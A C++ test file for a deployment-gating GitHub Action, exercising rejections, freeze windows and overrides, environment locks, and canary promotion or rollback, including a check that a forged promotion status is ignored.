    CHECK(record["rejections"]["active"][0]["by"] == "carol");
    CHECK(record["rejections"]["active"][0]["reason"] == "breaks billing");
    CHECK(record["rejections"]["not_heard"][0]["reason"] == "nothing_to_cancel");
  }
  SUBCASE("withdrawn by the person who rejected: the release deploys") {
    json comments = approved;
    comments.push_back(comment("carol", "/reject breaks billing"));
    comments.push_back(comment("carol", "/reject cancel"));
    World world(control_seed(repo, comments));
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 0);
    CHECK(contains(run.output, "pass  rejection"));
  }
  SUBCASE("someone who may not approve cannot block") {
    json comments = approved;
    comments.push_back(comment("dave", "/reject I do not like it"));  // read permission only
    World world(control_seed(repo, comments));
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 0);
    CHECK(contains(run.output, "/reject not heard: dave"));
  }
}

TEST_CASE("freeze windows refuse a deploy with the window and its end; an override needs a reason and approvals") {
  auto& repo = shared_repository();
  // A fixed window around any time these tests run, and an override from @acme/sre.
  const std::string freeze =
      "    freeze:\n"
      "      override: { from: [\"@acme/sre\"], count: 1 }\n"
      "      windows:\n"
      "        - { name: change-freeze, start: 2000-01-01T00:00:00Z, end: 2100-01-01T00:00:00Z }\n";
  const json approved = json::array({comment("erin", "/approve"), comment("frank", "/approve")});
  SUBCASE("inside a window: refused as frozen, naming it and when it ends") {
    World world(control_seed(repo, approved));
    use_control_config(world, "      required: 2\n", freeze);
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, "FAIL  freeze"));
    CHECK(contains(run.output, "'change-freeze'"));
    CHECK(contains(run.output, "until 2100-01-01T00:00:00Z"));
    CHECK(contains(run.output, "freeze-override-reason"));
    CHECK_FALSE(fs::exists(world.state / "steps"));
    const json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["freeze"]["outcome"] == "frozen");
    CHECK(record["freeze"]["windows"][0]["name"] == "change-freeze");
  }
  SUBCASE("a recurring window that always holds: every minute starts one") {
    World world(control_seed(repo, approved));
    use_control_config(world, "      required: 2\n",
                       "    freeze:\n      windows:\n"
                       "        - { name: always, cron: \"* * * * *\", duration: 1h, time_zone: Europe/Berlin }\n");
    auto run = run_action(world.env("refs/tags/v1.1.0"));
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, "FAIL  freeze"));
    CHECK(contains(run.output, "'always'"));
    CHECK(contains(run.output, "cannot be overridden"));
  }
  SUBCASE("an override reason without the override's approvals is refused") {
    World world(control_seed(repo, json::array({comment("erin", "/approve"), comment("carol", "/approve")})));
    use_control_config(world, "      required: 2\n", freeze);
    auto env = world.env("refs/tags/v1.1.0");
    env["INPUT_FREEZE-OVERRIDE-REASON"] = "hotfix for INC-12";
    auto run = run_action(env);
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, "FAIL  freeze"));
    CHECK(contains(run.output, "override of change-freeze 0/1"));
    CHECK(audit_record(world.outputs()["audit-file"])["freeze"]["outcome"] == "freeze_override_unapproved");
  }
  SUBCASE("overridden with a reason and an SRE's approval: deployed, and recorded") {
    World world(control_seed(repo, approved));
    use_control_config(world, "      required: 2\n", freeze);
    auto env = world.env("refs/tags/v1.1.0");
    env["INPUT_FREEZE-OVERRIDE-REASON"] = "hotfix for INC-12";
    auto run = run_action(env);
    INFO(run.output);
    CHECK(run.exit_code == 0);
    CHECK(contains(run.output, "pass  freeze"));
    const json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["freeze"]["outcome"] == "freeze_overridden");
    CHECK(record["freeze"]["override_reason"] == "hotfix for INC-12");
    CHECK(record["freeze"]["override_rules"][0]["approvers"] == json::array({"frank"}));
  }
  SUBCASE("a rollback is never frozen") {
    json seed = control_seed(repo, approved);
    add_replaced_deployment(seed, repo, "v1.0.0");
    add_live_deployment(seed, repo, "v1.1.0");
    World world(seed);
    use_control_config(world, "      required: 2\n", freeze);
    auto env = world.env("refs/tags/v1.1.0", "frank", "rollback");
    env["INPUT_VERSION"] = "v1.0.0";
    auto run = run_action(env);
    INFO(run.output);
    CHECK(contains(run.output, "pass  rollback"));
    CHECK_FALSE(contains(run.output, "freeze:"));  // no freeze gate at all
  }
}

// --- issue 17: environment locks and canary control --------------------------------------------

namespace {

// A sticky lock as deploy-bot's /lock leaves it: refs/deploy-locks/ENV at a commit holding it.
void lock_environment(World& world, const std::string& holder, const std::string& reason) {
  const json lock = {{"kind", "sticky"},
                     {"environment", "production"},
                     {"holder", holder},
                     {"reason", reason},
                     {"created", "2026-01-01T00:00:00Z"},
                     {"expires", ""},
                     {"run", ""},
                     {"run_url", ""}};
  auto tree = world.sim->api(
      "POST", "/repos/acme/app/git/trees", "tok-alice",
      {{"tree",
        json::array({{{"path", "lock.json"}, {"mode", "100644"}, {"type", "blob"}, {"content", lock.dump()}}})}});
  REQUIRE(tree.status == 201);
  auto commit = world.sim->api("POST", "/repos/acme/app/git/commits", "tok-alice",
                               {{"message", "deploy lock (sticky): production\n\n" + lock.dump() + "\n"},
                                {"tree", json::parse(tree.body)["sha"]},
                                {"parents", json::array()}});
  REQUIRE(commit.status == 201);
  auto ref = world.sim->api("POST", "/repos/acme/app/git/refs", "tok-alice",
                            {{"ref", "refs/deploy-locks/production"}, {"sha", json::parse(commit.body)["sha"]}});
  REQUIRE(ref.status == 201);
}

bool has_ref(const World& world, const std::string& name) {
  return world.repo_state().value("refs", json::object()).contains(name);
}

std::map<std::string, std::string> outputs_of(const World& world, int run) {
  std::map<std::string, std::string> values;
  auto parsed =
      deploy::runner::parse_file_commands(read_file(world.temp.path() / ("run-" + std::to_string(run)) / "output"));
  REQUIRE_MESSAGE(parsed, parsed.error().message);
  for (const auto& entry : *parsed) values[entry.name] = entry.value;
  return values;
}

bool has_gate(const json& record, const std::string& name, const std::string& reason) {
  for (const auto& gate : record["gates"]) {
    if (gate["name"] == name && gate["reason"] == reason) return true;
  }
  return false;
}

// deploy_yml with the first canary step held until /promote, for at most `timeout`.
std::string held_canary_yml(const World& world, const std::string& timeout) {
  std::string text = deploy_yml(world.state, world.service->url());
  const std::string step = "- { traffic: 10, pause: 1s }";
  text.replace(text.find(step), step.size(), "- { traffic: 10, pause: until-promoted }");
  const std::string type = "      type: canary\n";
  text.insert(text.find(type) + type.size(), "      pause_timeout: " + timeout + "\n");
  return text;
}

// The decision deploy-bot records for a waiting run (a commit status set by a bot account).
void decide(World& world, const std::string& sha, const std::string& state, const std::string& description) {
  auto answer =
      world.sim->api("POST", "/repos/acme/app/statuses/" + sha, "ghs_runner",
                     {{"state", state}, {"context", "deploy/promotion/production"}, {"description", description}});
  REQUIRE_MESSAGE(answer.status == 201, answer.body);
}

// release_seed, where the installation (whose bot account deploy-bot stands for here) may set statuses.
json promotion_seed() {
  json seed = release_seed();
  seed["installations"][0]["permissions"]["statuses"] = "write";
  return seed;
}

// The id of the production deployment in progress, once there is one (0 after 60 s).
long long deployment_in_progress(const World& world) {
  long long id = 0;
  eventually(
      [&] {
        for (const auto& d : world.repo_state().value("deployments", json::array())) {
          if (!d["statuses"].empty() && d["statuses"].back()["state"] == "in_progress") id = d["id"].get<long long>();
        }
        return id != 0;
      },
      60s);
  return id;
}

}  // namespace

TEST_CASE("a sticky lock refuses every run but its holder's, naming who and why; the run lock is released") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
  World world(seed, "1m", "0s");
  lock_environment(world, "alice", "incident 1234");

  auto refused = run_action(world.env("refs/tags/v1.1.0", "carol"));
  INFO(refused.output);
  CHECK(refused.exit_code == 1);
  CHECK(contains(refused.output, "@alice"));
  CHECK(contains(refused.output, "incident 1234"));
  CHECK(world.outputs()["status"] == "refused");
  json record = audit_record(world.outputs()["audit-file"]);
  CHECK(has_gate(record, "environment_lock", "environment_locked"));
  CHECK(world.repo_state().value("deployments", json::array()).empty());
  CHECK_FALSE(has_ref(world, "refs/deploy-runs/production"));

  // The holder's own run goes through, and releases its run lock; the sticky lock stays.
  auto holder = run_action(world.env("refs/tags/v1.1.0", "alice"));
  INFO(holder.output);
  CHECK(holder.exit_code == 0);
  CHECK(has_gate(audit_record(world.outputs()["audit-file"]), "environment_lock", "holder_run"));
  CHECK_FALSE(has_ref(world, "refs/deploy-runs/production"));
  CHECK(has_ref(world, "refs/deploy-locks/production"));
}

TEST_CASE("two runs of one environment: the second is refused while the first runs; the chain does not fork") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}), 10);
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}), 11);
  World world(seed, "1m", "0s");
  std::ofstream(world.state / "hang") << "";  // the first run's deploy stage waits until released

  auto first_env = world.env("refs/tags/v1.1.0");
  Run first;
  std::thread runner([&] { first = run_action(first_env); });
  const bool holding = eventually(
      [&] { return has_ref(world, "refs/deploy-runs/production") && fs::exists(world.state / "hang.pid"); }, 60s);
  CHECK(holding);

  auto second = run_action(world.env("refs/tags/v1.1.0", "bob"));
  CHECK(second.exit_code == 1);
  CHECK_MESSAGE(contains(second.output, "another run is deploying production"), second.output);
  CHECK(contains(second.output, "7001"));  // the holding run
  CHECK(outputs_of(world, 2)["status"] == "refused");

  fs::remove(world.state / "hang");
  if (fs::exists(world.state / "hang.pid")) ::kill(std::stoi(read_file(world.state / "hang.pid")), SIGTERM);
  runner.join();
  INFO(first.output);
  CHECK(first.exit_code == 0);
  CHECK_FALSE(has_ref(world, "refs/deploy-runs/production"));
  CHECK(world.repo_state()["deployments"].size() == 1);  // the refused run made none

  // The next run links to the first one's record: one chain.
  auto third = run_action(world.env("refs/tags/v1.2.0"));
  INFO(third.output);
  REQUIRE(third.exit_code == 0);
  const json first_record = audit_record(outputs_of(world, 1)["audit-file"]);
  const json third_record = audit_record(world.outputs()["audit-file"]);
  CHECK(third_record["seq"] == 1);
  CHECK(third_record["prev_hash"] == first_record["hash"]);
}

TEST_CASE("pause: until-promoted holds the canary until /promote, which the run hears from GitHub") {
  auto& repo = shared_repository();
  World world(promotion_seed());
  std::ofstream(world.state / "version") << "v1.1.0";
  world.use_config(held_canary_yml(world, "5m"));

  auto env = world.env("refs/tags/v1.2.0");
  Run run;
  std::thread runner([&] { run = run_action(env); });
  const long long id = deployment_in_progress(world);
  REQUIRE(id != 0);
  // The hold says where it waits, on the release's tracking issue.
  CHECK(eventually(
      [&] {
        for (const auto& c : world.repo_state().value("issue_comments", json::array())) {
          if (contains(c.value("body", ""), "/promote")) return true;
        }
        return false;
      },
      60s));
  CHECK(read_file(world.state / "traffic") == "10");
  // Another deployment's decision, and a person's status, do not move it.
  decide(world, repo.sha["v1.2.0"], "success", "promote deployment " + std::to_string(id + 1000) + " by @erin");
  decide(world, repo.sha["v1.2.0"], "success", "promote deployment " + std::to_string(id) + " by @erin");
  runner.join();
  INFO(run.output);
  CHECK(run.exit_code == 0);
  CHECK(read_file(world.state / "steps") == "v1.2.0 10\nv1.2.0 50\nv1.2.0 100\n");
  json record = audit_record(world.outputs()["audit-file"]);
  CHECK(has_gate(record, "promotion", "promoted"));
}

TEST_CASE("/abort rolls a held canary back at once; no decision rolls it back at pause_timeout") {
  auto& repo = shared_repository();
  {
    World world(promotion_seed());
    std::ofstream(world.state / "version") << "v1.1.0";
    world.use_config(held_canary_yml(world, "5m"));
    auto env = world.env("refs/tags/v1.2.0");
    Run run;
    std::thread runner([&] { run = run_action(env); });
    const long long id = deployment_in_progress(world);
    REQUIRE(id != 0);
    decide(world, repo.sha["v1.2.0"], "failure", "abort deployment " + std::to_string(id) + " by @erin: p99 up");
    runner.join();
    INFO(run.output);
    CHECK(run.exit_code != 0);
    CHECK(world.service->get("/version") == "v1.1.0");
    CHECK(contains(run.output, "aborted by @erin"));
    json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["outcome"]["reason"] == "aborted");
    CHECK(has_gate(record, "promotion", "aborted"));
  }
  {
    World world(promotion_seed());
    std::ofstream(world.state / "version") << "v1.1.0";
    world.use_config(held_canary_yml(world, "2s"));
    auto run = run_action(world.env("refs/tags/v1.2.0"));
    INFO(run.output);
    CHECK(run.exit_code != 0);
    CHECK(world.service->get("/version") == "v1.1.0");
    json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["outcome"]["reason"] == "promotion_timeout");
    CHECK(has_gate(record, "promotion", "promotion_timeout"));
  }
  {
    // A writer may set commit statuses, but a promotion set by a person's token is not deploy-bot's:
    // the run keeps waiting and rolls back at its timeout.
    World world(promotion_seed());
    std::ofstream(world.state / "version") << "v1.1.0";
    world.use_config(held_canary_yml(world, "6s"));
    auto env = world.env("refs/tags/v1.2.0");
    Run run;
    std::thread runner([&] { run = run_action(env); });
    const long long id = deployment_in_progress(world);
    REQUIRE(id != 0);
    auto forged = world.sim->api("POST", "/repos/acme/app/statuses/" + repo.sha["v1.2.0"], "tok-alice",
                                 {{"state", "success"},
                                  {"context", "deploy/promotion/production"},
                                  {"description", "promote deployment " + std::to_string(id) + " by @erin"}});
    REQUIRE_MESSAGE(forged.status == 201, forged.body);
    runner.join();
    INFO(run.output);
    CHECK(run.exit_code != 0);
    CHECK(world.service->get("/version") == "v1.1.0");
    json record = audit_record(world.outputs()["audit-file"]);
    CHECK(record["outcome"]["reason"] == "promotion_timeout");
    int polls = 0;
    for (const auto& r : world.sim->requests()) {
      if (r["method"] == "GET" && r["path"] == "/repos/acme/app/commits/" + repo.sha["v1.2.0"] + "/statuses") ++polls;
    }
    CHECK(polls > 1);  // it looked after the forged status was set, and did not take it
  }
}
